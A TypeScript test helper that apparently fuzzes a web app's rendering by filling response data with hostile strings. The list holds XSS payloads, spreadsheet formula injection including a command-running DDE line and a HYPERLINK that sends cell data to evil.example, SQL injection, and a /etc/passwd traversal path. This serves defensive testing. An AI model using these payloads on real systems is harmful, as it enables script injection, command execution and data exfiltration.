/** What is run where `RAN` turns up as a property of the window. */
export const RAN = '__ran';

/** Texts that do harm where they are taken for more than texts. */
export const CORPUS: readonly string[] = [
  `<img src=x onerror="window.${RAN}=1">`,
  `<script>window.${RAN}=2</script>`,
  `"><svg/onload=window.${RAN}=3>`,
  `'"--></style></script><iframe srcdoc="<script>parent.${RAN}=4</script>">`,
  `javascript:window.${RAN}=5`,
  `data:text/html,<script>parent.${RAN}=6</script>`,
  'https://evil.example/collect?from=desk',
  '//evil.example/',
  `{{constructor.constructor("window.${RAN}=7")()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to look like one
  '${globalThis.__ran=8}',
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '"\r\n=1+1,"',
  '\u202Efdp.exe',
  '\u0000\u0007\u001B[31m',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349a\u0353\u0326lgo'.repeat(6),
  '\uD800 half a pair',
  '👩‍👩‍👧‍👦'.repeat(40),
  '\u200B'.repeat(300),
  'W'.repeat(10_000),
  'no space '.repeat(1_200),
  '__proto__',
  'constructor',
  "'; drop table desk.journal; --",
  '%s%n%00%2e%2e/',
  '../../../../etc/passwd',
];

/** No line breaks in it. */
export const LONG_NAME = 'W'.repeat(10_000);

type Row = Record<string, unknown>;
const isRow = (value: unknown): value is Row =>
  typeof value === 'object' && value !== null && !Array.isArray(value);

/**
 * Puts a hostile text into every text of an answer's data. Each row has another one in each of its fields; what the
 * first row is known by stays, so that its page can be opened.
 */
export function makeHostile(data: unknown): void {
  let turn = 0;
  const spoil = (value: unknown, keep: boolean): unknown => {
    if (typeof value === 'string') return CORPUS[turn++ % CORPUS.length];
    if (Array.isArray(value)) return value.map((item, nth) => spoil(item, keep && nth === 0));
    if (!isRow(value)) return value;
    for (const [name, part] of Object.entries(value)) {
      const isKnownBy = keep && typeof part === 'string' && /^(_?id|email|user_id)$/.test(name);
      if (!isKnownBy) value[name] = spoil(part, keep);
    }
    return value;
  };
  if (Array.isArray(data)) for (const [nth, row] of data.entries()) data[nth] = spoil(row, nth === 0);
  else spoil(data, true);
}

/** Makes everything that is a name or a title 10,000 letters long. */
export function lengthenNames(data: unknown): void {
  const parts = Array.isArray(data) || isRow(data) ? Object.entries(data) : [];
  for (const [name, part] of parts) {
    if (typeof part === 'string' && /name$|title|country|symbol/i.test(name)) (data as Row)[name] = LONG_NAME;
    else lengthenNames(part);
  }
}
